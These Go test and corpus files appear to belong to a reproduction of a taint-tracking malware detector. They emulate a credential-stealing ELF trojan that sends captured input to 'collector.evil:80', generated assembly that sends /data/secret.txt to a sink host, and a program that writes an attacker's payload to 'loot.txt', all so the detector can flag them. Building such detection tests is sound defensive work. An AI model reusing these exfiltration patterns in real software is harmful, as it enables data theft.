// extension — the same PWSteal-style behaviour the T1 model encodes,
// expressed as real machine code, must produce the same detections.

//go:embed testdata/elf/trojan
var elfTrojanBin []byte

//go:embed testdata/elf/benign
var elfBenignBin []byte

// ELFTrojan returns the checked-in trojan ELF32 executable (a fresh
// copy; callers may mutate it for malformed-input tests).
func ELFTrojan() []byte { return append([]byte(nil), elfTrojanBin...) }

// ELFBenign returns the checked-in benign ELF32 executable.
func ELFBenign() []byte { return append([]byte(nil), elfBenignBin...) }

// mustInstallBinary is Setup-hook sugar mirroring MustInstallSource.
func mustInstallBinary(sys *hth.System, path string, data []byte) {
	if err := sys.InstallBinary(path, data); err != nil {
		panic(err)
	}
}

func init() {
	register(&Scenario{
		Name:  "elf-trojan",
		Table: "E1",
		Row:   "PWSteal (ELF32)",
		Desc:  "real-toolchain ELF32 trojan: input logged to a file, exfiltrated to a hardcoded address",
		Setup: func(sys *hth.System) {
			sys.AddRemote("collector.evil:80", func() vosScript { return sinkScript{} })
			mustInstallBinary(sys, "/bin/trojan", ELFTrojan())
		},
		Spec: hth.RunSpec{Path: "/bin/trojan", Stdin: []byte("alice hunter2")},
		Expect: Expectation{
			Warnings: []ExpectWarning{
				// Captured input into the predefined file.
				{Severity: hth.Medium, Contains: "The Data written originated from USER INPUT"},
				// The collected file to the hardcoded address.
				{Severity: hth.High, Contains: "Data Flowing From: formlog.dat To: collector.evil:80"},
			},
		},
	})

	register(&Scenario{
		Name:  "elf-benign",
		Table: "E1",
		Row:   "echo (ELF32)",
		Desc:  "real-toolchain ELF32 echo filter: stdin to stdout raises nothing",
		Setup: func(sys *hth.System) {
			mustInstallBinary(sys, "/bin/echoer", ELFBenign())
		},
		Spec:   hth.RunSpec{Path: "/bin/echoer", Stdin: []byte("hello, world\n")},
		Expect: Expectation{Clean: true, ExactCount: 0},
	})
}
