package corpus

import (
	"bytes"
	"context"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	hth "repro"
	"repro/internal/image"
)

var updateGolden = flag.Bool("update", false, "rewrite golden files")

// TestTableE1FrontendEquivalence runs the ELF fixture scenarios: the
// real-toolchain trojan must be detected and the real-toolchain echo
// filter must stay clean, through the same Setup/Run/Check harness as
// every paper table.
func TestTableE1FrontendEquivalence(t *testing.T) { runTable(t, "E1") }

// TestELFGoldenVerdicts pins the full observable outcome of the ELF
// fixtures byte-for-byte: verdict, warning report, and the symbolized
// provenance chains (the run is deterministic). A chain frame like
// "bb /bin/trojan:exfil+0x14" proves the ELF symbol table flowed
// through the loader into the provenance renderer. Regenerate
// deliberately with -update.
func TestELFGoldenVerdicts(t *testing.T) {
	for _, name := range []string{"elf-trojan", "elf-benign"} {
		t.Run(name, func(t *testing.T) {
			sc, ok := ByName(name)
			if !ok {
				t.Fatalf("%s not registered", name)
			}
			res, err := sc.RunWith(func(cfg *hth.Config) {
				cfg.Provenance = true
				cfg.Symbolize = true
			})
			if err != nil {
				t.Fatal(err)
			}
			var b strings.Builder
			fmt.Fprintf(&b, "verdict: %s\n", sc.Verdict(res))
			fmt.Fprintf(&b, "--- report ---\n%s", res.Report())
			fmt.Fprintf(&b, "--- chains ---\n")
			for _, ch := range res.Provenance.Chains() {
				fmt.Fprintf(&b, "%s\n", ch)
			}
			got := []byte(b.String())
			golden := filepath.Join("testdata", "elf", name+".golden")
			if *updateGolden {
				if err := os.WriteFile(golden, got, 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatalf("%v (run with -update to create)", err)
			}
			if !bytes.Equal(got, want) {
				t.Fatalf("diverged from golden:\n--- got ---\n%s\n--- want ---\n%s", got, want)
			}
		})
	}
}

// TestELFSymbolizedChains asserts the symbolized rendering cites ELF
// symbol names, and that the same run without Symbolize keeps the raw
// addresses — symbolization is presentation-only and opt-in.
func TestELFSymbolizedChains(t *testing.T) {
	sc, _ := ByName("elf-trojan")
	sym, err := sc.RunWith(func(cfg *hth.Config) { cfg.Provenance = true; cfg.Symbolize = true })
	if err != nil {
		t.Fatal(err)
	}
	raw, err := sc.RunWith(func(cfg *hth.Config) { cfg.Provenance = true })
	if err != nil {
		t.Fatal(err)
	}
	symText := strings.Join(sym.Provenance.Chains(), "\n")
	rawText := strings.Join(raw.Provenance.Chains(), "\n")
	if !strings.Contains(symText, "bb /bin/trojan:") {
		t.Errorf("symbolized chains cite no /bin/trojan symbol frames:\n%s", symText)
	}
	if strings.Contains(rawText, "bb /bin/trojan:") {
		t.Errorf("unsymbolized chains unexpectedly cite symbol frames:\n%s", rawText)
	}
	if !strings.Contains(rawText, "bb 0x") {
		t.Errorf("unsymbolized chains carry no raw block addresses:\n%s", rawText)
	}
	// Detections are identical either way; only the rendering differs.
	if len(sym.Warnings) != len(raw.Warnings) {
		t.Errorf("warning count diverged: symbolized %d, raw %d", len(sym.Warnings), len(raw.Warnings))
	}
	for i := range raw.Warnings {
		if sym.Warnings[i].Message != raw.Warnings[i].Message {
			t.Errorf("warning %d message diverged between symbolized and raw runs", i)
		}
	}
}

// TestELFBuildID asserts the toolchain-stamped build ID survives the
// decode (ld ran with --build-id=sha1: 40 hex digits).
func TestELFBuildID(t *testing.T) {
	img, err := image.Decode("/bin/trojan", ELFTrojan())
	if err != nil {
		t.Fatal(err)
	}
	if len(img.BuildID) != 40 {
		t.Errorf("BuildID = %q, want 40 hex digits", img.BuildID)
	}
}

// TestELFServiceJobs drives the ELF payloads through the analysis
// service: a well-formed binary terminates in a verdict with warnings,
// and a malformed payload is rejected at submission with the typed
// bad-image error — never a worker crash.
func TestELFServiceJobs(t *testing.T) {
	svc := hth.NewService(hth.ServiceConfig{})
	defer svc.Drain(context.Background())

	h, err := svc.Submit(hth.JobSpec{
		Binaries:   map[string][]byte{"/bin/trojan": ELFTrojan()},
		Path:       "/bin/trojan",
		Stdin:      []byte("alice hunter2"),
		Provenance: true,
		Symbolize:  true,
		Setup: func(sys *hth.System) {
			sys.AddRemote("collector.evil:80", func() vosScript { return sinkScript{} })
		},
	})
	if err != nil {
		t.Fatalf("submit: %v", err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	res, err := h.Wait(ctx)
	if err != nil {
		t.Fatalf("wait: %v", err)
	}
	if res.Status != "done" {
		t.Fatalf("job status %q (error %v), want done", res.Status, res.Error)
	}
	if len(res.Warnings) == 0 {
		t.Fatal("ELF trojan job produced no warnings")
	}

	// Malformed payload: a truncated ELF is a typed synchronous
	// rejection, code bad-image.
	_, err = svc.Submit(hth.JobSpec{
		Binaries: map[string][]byte{"/bin/bad": ELFTrojan()[:40]},
		Path:     "/bin/bad",
	})
	jerr, ok := err.(*hth.JobError)
	if !ok {
		t.Fatalf("truncated ELF: got %v, want *JobError", err)
	}
	if jerr.Code != hth.JobBadImage {
		t.Errorf("truncated ELF: code %q, want %q", jerr.Code, hth.JobBadImage)
	}
}
