package corpus

import (
	"fmt"
	"strings"

	hth "repro"
	"repro/internal/secpert"
)

// Table 6 — Information flow micro benchmarks (§8.1.3). Each cell of
// the source×target×name-origin matrix becomes a generated guest
// program: data is acquired from a binary / file / socket / the
// hardware (CPUID), then written to a file or socket, with every
// resource name hardcoded, user-given (argv) or received from a
// remote socket.

// nameHow is where a resource name comes from in a flow benchmark.
type nameHow int

const (
	nameHardcoded nameHow = iota
	nameUser              // argv[1] (source) or argv[2] (target)
	nameRemote            // received from the hardcoded name server
)

func (n nameHow) String() string {
	switch n {
	case nameHardcoded:
		return "hardcoded"
	case nameUser:
		return "user"
	case nameRemote:
		return "remote"
	}
	return "?"
}

// flowSource is the data source kind.
type flowSource int

const (
	srcBinary flowSource = iota
	srcFile
	srcSocket
	srcHardware
)

func (s flowSource) String() string {
	switch s {
	case srcBinary:
		return "Binary"
	case srcFile:
		return "File"
	case srcSocket:
		return "Socket"
	case srcHardware:
		return "Hardware"
	}
	return "?"
}

// flowTarget is the sink kind.
type flowTarget int

const (
	dstFile flowTarget = iota
	dstSocket
	dstServerSocket // the program binds, listens and accepts
)

func (t flowTarget) String() string {
	switch t {
	case dstFile:
		return "File"
	case dstSocket:
		return "Socket"
	case dstServerSocket:
		return "Socket(server)"
	}
	return "?"
}

// Well-known endpoints of the flow benchmarks.
const (
	flowDataEndpoint = "data.example:80"  // serves the 8-byte payload
	flowSinkEndpoint = "sink.example:80"  // swallows exfiltrated data
	flowNameEndpoint = "names.example:99" // serves resource names
	flowServerAddr   = "localhost:1084"   // the server benchmarks bind here
	flowSourceFile   = "/data/secret.txt"
	flowTargetFile   = "/tmp/drop.dat"
)

// flowAsm generates the guest program for one matrix cell.
func flowAsm(src flowSource, srcName nameHow, dst flowTarget, dstName nameHow) string {
	var b strings.Builder
	emit := func(format string, args ...any) { fmt.Fprintf(&b, format+"\n", args...) }

	emit(".text")
	emit("_start:")
	emit("    mov ebp, [esp+4]    ; argv array")

	// Resolve names into [srcnp] / [dstnp].
	resolve := func(how nameHow, slot string, argvIdx int, label string) {
		switch how {
		case nameHardcoded:
			emit("    mov eax, %s", label)
		case nameUser:
			emit("    mov eax, [ebp+%d]   ; argv[%d]", 4*argvIdx, argvIdx)
		case nameRemote:
			// Fetch the name from the (hardcoded) name server.
			emit("    mov eax, 102")
			emit("    mov ebx, 1          ; socket")
			emit("    mov ecx, scargs")
			emit("    int 0x80")
			emit("    mov [scargs], eax")
			emit("    mov [scargs+4], ns_addr")
			emit("    mov eax, 102")
			emit("    mov ebx, 3          ; connect")
			emit("    mov ecx, scargs")
			emit("    int 0x80")
			emit("    mov [scargs+4], %s_buf", slot)
			emit("    mov [scargs+8], 31")
			emit("    mov eax, 102")
			emit("    mov ebx, 10         ; recv")
			emit("    mov ecx, scargs")
			emit("    int 0x80")
			emit("    mov eax, %s_buf", slot)
		}
		emit("    mov [%s], eax", slot)
	}
	if src == srcFile || src == srcSocket {
		resolve(srcName, "srcnp", 1, "src_name")
	}
	resolve(dstName, "dstnp", 2, "dst_name")

	// Acquire the payload into buf (or point bufp at binary data).
	switch src {
	case srcBinary:
		emit("    mov eax, payload")
		emit("    mov [bufp], eax")
	case srcFile:
		emit("    mov ebx, [srcnp]")
		emit("    mov ecx, 0")
		emit("    mov eax, 5          ; open")
		emit("    int 0x80")
		emit("    mov ebx, eax")
		emit("    mov ecx, buf")
		emit("    mov edx, 8")
		emit("    mov eax, 3          ; read")
		emit("    int 0x80")
		emit("    mov eax, buf")
		emit("    mov [bufp], eax")
	case srcSocket:
		emit("    mov eax, 102")
		emit("    mov ebx, 1")
		emit("    mov ecx, scargs")
		emit("    int 0x80")
		emit("    mov [scargs], eax")
		emit("    mov eax, [srcnp]")
		emit("    mov [scargs+4], eax")
		emit("    mov eax, 102")
		emit("    mov ebx, 3          ; connect")
		emit("    mov ecx, scargs")
		emit("    int 0x80")
		emit("    mov [scargs+4], buf")
		emit("    mov [scargs+8], 8")
		emit("    mov eax, 102")
		emit("    mov ebx, 10         ; recv")
		emit("    mov ecx, scargs")
		emit("    int 0x80")
		emit("    mov eax, buf")
		emit("    mov [bufp], eax")
	case srcHardware:
		emit("    cpuid")
		emit("    mov [buf], eax")
		emit("    mov [buf+4], ebx")
		emit("    mov eax, buf")
		emit("    mov [bufp], eax")
	}

	// Acquire the target descriptor into [dstfd].
	switch dst {
	case dstFile:
		emit("    mov ebx, [dstnp]")
		emit("    mov eax, 8          ; creat")
		emit("    int 0x80")
		emit("    mov [dstfd], eax")
	case dstSocket:
		emit("    mov eax, 102")
		emit("    mov ebx, 1")
		emit("    mov ecx, scargs")
		emit("    int 0x80")
		emit("    mov [dstfd], eax")
		emit("    mov [scargs], eax")
		emit("    mov eax, [dstnp]")
		emit("    mov [scargs+4], eax")
		emit("    mov eax, 102")
		emit("    mov ebx, 3          ; connect")
		emit("    mov ecx, scargs")
		emit("    int 0x80")
	case dstServerSocket:
		emit("    mov eax, 102")
		emit("    mov ebx, 1")
		emit("    mov ecx, scargs")
		emit("    int 0x80")
		emit("    mov [scargs], eax")
		emit("    mov eax, [dstnp]")
		emit("    mov [scargs+4], eax")
		emit("    mov eax, 102")
		emit("    mov ebx, 2          ; bind")
		emit("    mov ecx, scargs")
		emit("    int 0x80")
		emit("    mov eax, 102")
		emit("    mov ebx, 4          ; listen")
		emit("    mov ecx, scargs")
		emit("    int 0x80")
		emit("    mov eax, 102")
		emit("    mov ebx, 5          ; accept")
		emit("    mov ecx, scargs")
		emit("    int 0x80")
		emit("    mov [dstfd], eax")
	}

	// write(dstfd, bufp, 8)
	emit("    mov ebx, [dstfd]")
	emit("    mov ecx, [bufp]")
	emit("    mov edx, 8")
	emit("    mov eax, 4          ; write")
	emit("    int 0x80")
	emit("    hlt")

	emit(".data")
	emit(`payload:   .asciz "SECRET01"`)
	emit(`src_name:  .asciz %q`, flowSourceName(src))
	emit(`dst_name:  .asciz %q`, flowTargetName(dst))
	emit(`ns_addr:   .asciz %q`, flowNameEndpoint)
	emit("buf:       .space 32")
	emit("srcnp_buf: .space 32")
	emit("dstnp_buf: .space 32")
	emit("srcnp:     .space 4")
	emit("dstnp:     .space 4")
	emit("dstfd:     .space 4")
	emit("bufp:      .space 4")
	emit("scargs:    .space 12")
	return b.String()
}

func flowSourceName(src flowSource) string {
	if src == srcSocket {
		return flowDataEndpoint
	}
	return flowSourceFile
}

func flowTargetName(dst flowTarget) string {
	switch dst {
	case dstSocket:
		return flowSinkEndpoint
	case dstServerSocket:
		return flowServerAddr
	}
	return flowTargetFile
}

// flowScenario assembles the full scenario for one cell.
func flowScenario(src flowSource, srcName nameHow, dst flowTarget, dstName nameHow, expect Expectation) *Scenario {
	name := fmt.Sprintf("flow-%s-%s", strings.ToLower(src.String()), strings.ToLower(dst.String()))
	row := fmt.Sprintf("%s -> %s", src, dst)
	switch {
	case src == srcBinary || src == srcHardware:
		name += "-" + dstName.String()
		row += fmt.Sprintf(" (%s name)", dstName)
	default:
		name += fmt.Sprintf("-%s-%s", srcName, dstName)
		row += fmt.Sprintf(" (%s, %s)", srcName, dstName)
	}
	prog := flowAsm(src, srcName, dst, dstName)
	binPath := "/bin/" + name

	return register(&Scenario{
		Name:  name,
		Table: "T6",
		Row:   row,
		Desc:  fmt.Sprintf("information flow %s with source name %s and target name %s", row, srcName, dstName),
		Setup: func(sys *hth.System) {
			sys.MustInstallSource(binPath, prog)
			sys.CreateFile(flowSourceFile, []byte("FILEDAT1"))
			sys.AddRemote(flowDataEndpoint, func() vosScript { return sendScript{payload: "REMOTED1"} })
			sys.AddRemote(flowSinkEndpoint, func() vosScript { return sinkScript{} })
			// The name server answers with the name appropriate for
			// whichever side asked first; both sides remote is not a
			// Table 6 cell, so a single payload suffices.
			nsPayload := flowTargetName(dst)
			if srcName == nameRemote {
				nsPayload = flowSourceName(src)
			}
			sys.AddRemote(flowNameEndpoint, func() vosScript { return sendScript{payload: nsPayload} })
			if dst == dstServerSocket {
				sys.ScheduleConnect(100, flowServerAddr, "attacker:4444", &attackerScript{})
			}
		},
		Spec: hth.RunSpec{
			Path: binPath,
			Argv: []string{binPath, flowSourceName(src), flowTargetName(dst)},
		},
		Expect: expect,
	})
}

func expectClean() Expectation { return Expectation{Clean: true} }

func expectOne(sev secpert.Severity, contains string) Expectation {
	return Expectation{
		ExactCount: 1,
		Warnings:   []ExpectWarning{{Severity: sev, Contains: contains, Rule: "check_write"}},
	}
}

func init() {
	// Binary -> File (three name origins, §8.1.3 table rows).
	flowScenario(srcBinary, nameHardcoded, dstFile, nameUser, expectClean())
	flowScenario(srcBinary, nameHardcoded, dstFile, nameHardcoded,
		expectOne(secpert.High, "The Data written to this file is originated from the BINARY"))
	flowScenario(srcBinary, nameHardcoded, dstFile, nameRemote,
		expectOne(secpert.High, "The Data written to this file is originated from the BINARY"))

	// Binary -> Socket.
	flowScenario(srcBinary, nameHardcoded, dstSocket, nameUser, expectClean())
	flowScenario(srcBinary, nameHardcoded, dstSocket, nameHardcoded,
		expectOne(secpert.Low, "target (client) socket-name was hardcoded in:"))

	// File -> File.
	flowScenario(srcFile, nameUser, dstFile, nameUser, expectClean())
	flowScenario(srcFile, nameUser, dstFile, nameHardcoded,
		expectOne(secpert.Low, "source filename was given by the user"))
	flowScenario(srcFile, nameHardcoded, dstFile, nameUser,
		expectOne(secpert.Low, "source filename was hardcoded in:"))
	flowScenario(srcFile, nameHardcoded, dstFile, nameHardcoded,
		expectOne(secpert.High, "source filename was hardcoded in:"))

	// File -> Socket.
	flowScenario(srcFile, nameUser, dstSocket, nameUser, expectClean())
	flowScenario(srcFile, nameUser, dstSocket, nameHardcoded,
		expectOne(secpert.Low, "source filename was given by the user"))
	flowScenario(srcFile, nameHardcoded, dstSocket, nameUser,
		expectOne(secpert.Low, "source filename was hardcoded in:"))
	flowScenario(srcFile, nameHardcoded, dstSocket, nameHardcoded,
		expectOne(secpert.High, "Data Flowing From: "+flowSourceFile+" To: "+flowSinkEndpoint))

	// Socket -> File.
	flowScenario(srcSocket, nameUser, dstFile, nameUser, expectClean())
	flowScenario(srcSocket, nameUser, dstFile, nameHardcoded,
		expectOne(secpert.Low, "source socket-address was given by the user"))
	flowScenario(srcSocket, nameHardcoded, dstFile, nameUser,
		expectOne(secpert.Low, "source socket-address was hardcoded in:"))
	flowScenario(srcSocket, nameHardcoded, dstFile, nameHardcoded,
		expectOne(secpert.High, "source socket-address was hardcoded in:"))

	// Hardware -> File.
	flowScenario(srcHardware, nameHardcoded, dstFile, nameUser, expectClean())
	flowScenario(srcHardware, nameHardcoded, dstFile, nameHardcoded,
		expectOne(secpert.High, "The Data written originated from the HARDWARE"))

	// Socket benchmarks "were tested twice: once as a socket client
	// and the other a socket server" (§8.1.3): the server flavour
	// writes to an accepted connection, which is remote-directed.
	flowScenario(srcFile, nameHardcoded, dstServerSocket, nameHardcoded, Expectation{
		Warnings: []ExpectWarning{{
			Severity: secpert.High,
			Rule:     "check_write",
			Contains: "it is a server with the address: " + flowServerAddr,
		}},
	})
	flowScenario(srcBinary, nameHardcoded, dstServerSocket, nameHardcoded, Expectation{
		Warnings: []ExpectWarning{{
			Severity: secpert.High,
			Rule:     "check_write",
			Contains: "it is a server with the address: " + flowServerAddr,
		}},
	})
}
