package corpus

import (
	"strings"
	"testing"

	hth "repro"
	"repro/internal/chaos"
	"repro/internal/secpert"
)

// lurkerSrc is the clean-tier ambush shape: the guest binds a port,
// then runs a hot copy loop over two scratch pages long enough for the
// tier machinery to demote the loop to uninstrumented execution with a
// cached nil-page verdict on both pages. Only then does it accept the
// (chaos-delayed) inbound connection and recv the attacker's payload
// straight onto the loop's source page — the zero→nonzero flip the
// seam must catch — and finally reruns the demoted loop and writes the
// copied bytes to a file, a flow the monitor must still detect.
const lurkerSrc = `
.text
_start:
    mov eax, 102
    mov ebx, 1          ; socket
    mov ecx, scargs
    int 0x80
    mov [scargs], eax
    mov [scargs+4], port
    mov eax, 102
    mov ebx, 2          ; bind
    mov ecx, scargs
    int 0x80
    mov eax, 102
    mov ebx, 4          ; listen
    mov ecx, scargs
    int 0x80
    ; hot loop on clean scratch pages: demotes and caches verdicts.
    ; The SAME loop runs again after the recv (ebp is the round flag),
    ; so the second round probes the exact cached ways the first round
    ; installed — the re-instrumentation path, not a fresh proof.
    mov ebp, 0
    xor eax, eax
    mov edi, 0
seed:
    mov ecx, 0x200000
    add ecx, edi
    mov [ecx], eax
    add edi, 4
    cmp edi, 256
    jl seed
    mov esi, 40
pass:
    mov edi, 0
copy:
    mov ecx, 0x200000
    add ecx, edi
    mov eax, [ecx]
    mov [ecx+0x1000], eax
    add edi, 4
    cmp edi, 256
    jl copy
    dec esi
    jnz pass
    cmp ebp, 1
    jz leak
    ; the delayed connection: recv lands on the loop's source page
    mov eax, 102
    mov ebx, 5          ; accept
    mov ecx, scargs
    int 0x80
    mov [scargs], eax
    mov [scargs+4], 0x200000
    mov [scargs+8], 16
    mov eax, 102
    mov ebx, 10         ; recv
    mov ecx, scargs
    int 0x80
    ; rerun the demoted loop: it must come back instrumented
    mov ebp, 1
    mov esi, 2
    jmp pass
leak:
    ; leak the copied bytes
    mov ebx, outf
    mov eax, 8          ; creat("loot.txt")
    int 0x80
    mov ebx, eax
    mov ecx, 0x201000
    mov edx, 16
    mov eax, 4          ; write
    int 0x80
    hlt
.data
port: .asciz "0.0.0.0:9009"
outf: .asciz "loot.txt"
scargs: .space 12
`

// TestCleanTierReinstrumentOnDelayedRecv is the end-to-end regression
// for the page-flip seam (the system-level face of taint's
// TestShadowSourceAfterCachedNil): a block demoted to the clean tier
// with a cached nil-page verdict must be re-instrumented when a
// chaos-delayed recv makes that page go zero→nonzero, and the
// resulting socket→file flow must be reported exactly as it is with
// the clean tier off.
func TestCleanTierReinstrumentOnDelayedRecv(t *testing.T) {
	run := func(cleanThreshold int, plan *chaos.Plan) *hth.Result {
		sys := hth.NewSystem()
		sys.ScheduleConnect(100, "0.0.0.0:9009", "intruder:7777",
			&attackerScript{sends: []string{"DROP-16-BYTES-IN"}})
		sys.MustInstallSource("/bin/lurker", lurkerSrc)
		cfg := hth.DefaultConfig()
		cfg.Monitor.PromoteThreshold = 1
		cfg.Monitor.TraceThreshold = 2
		cfg.Monitor.CleanThreshold = cleanThreshold
		cfg.Chaos = plan
		res, err := sys.Run(cfg, hth.RunSpec{Path: "/bin/lurker"})
		if err != nil {
			t.Fatal(err)
		}
		return res
	}

	// Seed chosen so the rate-1/2 plan postpones the inbound dial at
	// least once and still delivers it: the verdicts are cached and
	// stale by the time the payload lands.
	plan := &chaos.Plan{Seed: 11, Rate: 0.5, Only: []chaos.Kind{chaos.NetDelay}}
	res := run(1, plan)

	delayed := 0
	for _, f := range res.Chaos {
		if f.Kind == chaos.NetDelay {
			delayed++
		}
	}
	if delayed == 0 {
		t.Fatal("plan injected no NetDelay: the recv was not delayed")
	}
	if res.Stats.CleanHits == 0 {
		t.Fatal("loop never demoted to the clean tier before the recv")
	}
	if res.Stats.Reinstrumented == 0 {
		t.Fatal("page flip did not re-instrument the demoted loop")
	}
	leak := false
	for _, w := range res.Warnings {
		if w.Severity >= secpert.High && strings.Contains(w.Message, "To: loot.txt") &&
			strings.Contains(w.Message, "intruder:7777") {
			leak = true
		}
	}
	if !leak {
		t.Fatalf("socket->file flow not detected; warnings: %+v", res.Warnings)
	}

	// The clean tier must not change what is reported: same warnings as
	// the instrumented-only run under the identical chaos plan.
	ref := run(0, plan)
	if len(ref.Warnings) != len(res.Warnings) {
		t.Fatalf("warning count diverged: clean-on %d, clean-off %d",
			len(res.Warnings), len(ref.Warnings))
	}
	for i := range ref.Warnings {
		if ref.Warnings[i].Message != res.Warnings[i].Message {
			t.Errorf("warning %d diverged:\n  off: %s\n  on:  %s",
				i, ref.Warnings[i].Message, res.Warnings[i].Message)
		}
	}
}
