package corpus

import (
	"repro/internal/asm"
	"repro/internal/image"
	"repro/internal/vos"
)

// vosScript aliases the remote-peer interface for brevity in
// scenario definitions.
type vosScript = vos.RemoteScript

// mustLib assembles a guest shared object.
func mustLib(name, src string) *image.Image {
	return asm.MustAssemble(name, src)
}

// trivialExe is an installable do-nothing executable, standing in for
// the system binaries the corpus programs execve (/bin/ls, /bin/su,
// cc1plus, ...). The *detection* happens before the target runs, so
// its body is irrelevant.
const trivialExe = `
.text
_start:
    mov ebx, 0
    mov eax, 1          ; SYS_exit
    int 0x80
`

// installTools places the standard target binaries the exploits and
// trusted programs invoke.
func installTools(sys interface{ MustInstallSource(string, string) }, paths ...string) {
	for _, p := range paths {
		sys.MustInstallSource(p, trivialExe)
	}
}

// --- Scripted remote peers ---

// sinkScript accepts a connection and swallows everything.
type sinkScript struct{}

func (sinkScript) OnConnect(*vos.RemoteConn)      {}
func (sinkScript) OnData(*vos.RemoteConn, []byte) {}

// sendScript sends fixed bytes on connect, then swallows.
type sendScript struct{ payload string }

func (s sendScript) OnConnect(c *vos.RemoteConn)  { c.Send([]byte(s.payload)) }
func (sendScript) OnData(*vos.RemoteConn, []byte) {}

// attackerScript drives the pma session: it authenticates, issues
// shell commands as responses arrive, and closes when done.
type attackerScript struct {
	sends []string // successive payloads; the first goes on connect
	i     int
}

func (a *attackerScript) OnConnect(c *vos.RemoteConn) {
	a.step(c)
}

func (a *attackerScript) OnData(c *vos.RemoteConn, data []byte) {
	a.step(c)
}

func (a *attackerScript) step(c *vos.RemoteConn) {
	if a.i >= len(a.sends) {
		c.Close()
		return
	}
	payload := a.sends[a.i]
	a.i++
	c.Send([]byte(payload))
}
