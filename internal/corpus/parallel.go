package corpus

import (
	"context"
	"fmt"
	"hash/fnv"
	"io"
	"runtime"
	"runtime/pprof"

	hth "repro"
	"repro/internal/chaos"
	"repro/internal/pool"
)

// RunOutcome is the result of one scenario in a RunAll sweep.
type RunOutcome struct {
	Scenario *Scenario
	Result   *hth.Result
	Err      error
	// Problems holds the Check() discrepancies; empty with a nil Err
	// means the scenario reproduced the paper's row.
	Problems []string
}

// Reproduced reports whether the scenario ran and matched expectation.
func (o *RunOutcome) Reproduced() bool {
	return o.Err == nil && len(o.Problems) == 0
}

// RunAll executes the scenarios on a pool of the given width
// (parallelism <= 0 selects GOMAXPROCS) and returns one outcome per
// scenario, in input order. Every scenario builds a private
// hth.System, and the shared registry is read-only, so concurrent
// runs share no mutable state: a sweep's outcomes are identical at
// any parallelism, including 1.
func RunAll(scenarios []*Scenario, parallelism int) []RunOutcome {
	return runAll(scenarios, parallelism, nil)
}

// RunAllWith is RunAll with a per-scenario configuration hook, applied
// after the scenario's own tweaks. It is how sweeps pin engine knobs
// corpus rows do not own — the tier differential harness runs the same
// corpus twice with opposite PromoteThreshold values this way.
func RunAllWith(scenarios []*Scenario, parallelism int, tweak func(*Scenario, *hth.Config)) []RunOutcome {
	return runAll(scenarios, parallelism, tweak)
}

// chaosMaxSteps bounds guest execution during fault-injecting sweeps:
// an injected error can send a guest's retry loop spinning, and the
// run must become a structured vos.ErrBudget outcome quickly instead
// of burning the full default budget under taint tracking. The cap is
// a virtual-instruction count, so chaos sweeps stay deterministic.
const chaosMaxSteps = 2_000_000

// RunAllChaos is RunAll under a chaos plan: every scenario runs with a
// fault injector seeded from plan.Derive(scenario name), so the
// per-scenario fault streams do not depend on worker scheduling and
// the whole sweep is reproducible from (plan, corpus) alone.
//
// Zero-rate plans leave the scenario configuration untouched apart
// from the (inert) injector, so their sweeps are bit-identical to
// RunAll. Fault-injecting plans additionally tighten the step budget
// to chaosMaxSteps.
func RunAllChaos(scenarios []*Scenario, parallelism int, plan chaos.Plan) []RunOutcome {
	return RunAllChaosWith(scenarios, parallelism, plan, nil)
}

// RunAllChaosWith is RunAllChaos with an additional per-scenario
// configuration hook, applied after the chaos wiring. The chaos gate
// uses it to assert that the tiered and interpreter taint engines
// stay signature-identical under an active fault plan.
func RunAllChaosWith(scenarios []*Scenario, parallelism int, plan chaos.Plan, tweak func(*Scenario, *hth.Config)) []RunOutcome {
	return runAll(scenarios, parallelism, func(sc *Scenario, cfg *hth.Config) {
		derived := plan.Derive(sc.Name)
		cfg.Chaos = &derived
		if plan.Rate > 0 && (cfg.MaxSteps == 0 || cfg.MaxSteps > chaosMaxSteps) {
			cfg.MaxSteps = chaosMaxSteps
		}
		if tweak != nil {
			tweak(sc, cfg)
		}
	})
}

// runAll fans the sweep out on an internal/pool worker pool — the
// same substrate the analysis service shards over — with an unbounded
// queue (every scenario must execute) and per-task panic containment
// already provided by runScenario.
func runAll(scenarios []*Scenario, parallelism int, extra func(*Scenario, *hth.Config)) []RunOutcome {
	if parallelism <= 0 {
		parallelism = runtime.GOMAXPROCS(0)
	}
	if parallelism > len(scenarios) {
		parallelism = len(scenarios)
	}
	out := make([]RunOutcome, len(scenarios))
	p := pool.New(pool.Options{Workers: parallelism})
	for i := range scenarios {
		i := i
		sc := scenarios[i]
		p.Submit(pool.Task{Run: func() {
			// Label the worker's profile samples with the scenario,
			// so a CPU/heap profile of a sweep attributes cost to
			// individual corpus rows.
			pprof.Do(context.Background(),
				pprof.Labels("hth.scenario", sc.Name, "hth.table", sc.Table),
				func(context.Context) { out[i] = runScenario(sc, extra) })
		}})
	}
	p.Close()
	return out
}

// runScenario executes one scenario, containing any panic — from the
// scenario's own Setup/Tweak/Check hooks, or anything hth's own run
// boundary did not already convert — as a structured outcome error.
// One crashing scenario therefore never takes down a sweep or its
// worker goroutine.
func runScenario(sc *Scenario, extra func(*Scenario, *hth.Config)) (o RunOutcome) {
	o.Scenario = sc
	defer func() {
		if r := recover(); r != nil {
			o.Result = nil
			o.Problems = nil
			o.Err = fmt.Errorf("corpus: scenario %s panicked: %v", sc.Name, r)
		}
	}()
	var hook func(*hth.Config)
	if extra != nil {
		hook = func(cfg *hth.Config) { extra(sc, cfg) }
	}
	o.Result, o.Err = sc.RunWith(hook)
	if o.Err == nil {
		o.Problems = sc.Check(o.Result)
	}
	return o
}

// SweepSignature reduces a sweep to one line per scenario capturing
// its observable detection behaviour: executed steps, outcome,
// problem count, injected-fault count, and an FNV-64a hash of the
// full warning text. Two sweeps whose signatures match element-wise
// produced bit-identical detections, so zero-rate chaos runs can be
// checked against their baseline cheaply.
func SweepSignature(outs []RunOutcome) []string {
	sig := make([]string, len(outs))
	for i, o := range outs {
		if o.Err != nil {
			sig[i] = fmt.Sprintf("%s: error %v", o.Scenario.Name, o.Err)
			continue
		}
		h := fnv.New64a()
		for _, w := range o.Result.Warnings {
			io.WriteString(h, w.String())
			io.WriteString(h, "\x00")
		}
		sig[i] = fmt.Sprintf("%s: steps=%d outcome=%q problems=%d faults=%d warnhash=%016x",
			o.Scenario.Name, o.Result.TotalSteps, Outcome(o.Result),
			len(o.Problems), len(o.Result.Chaos), h.Sum64())
	}
	return sig
}
