package corpus

import (
	"runtime"
	"sync"

	hth "repro"
)

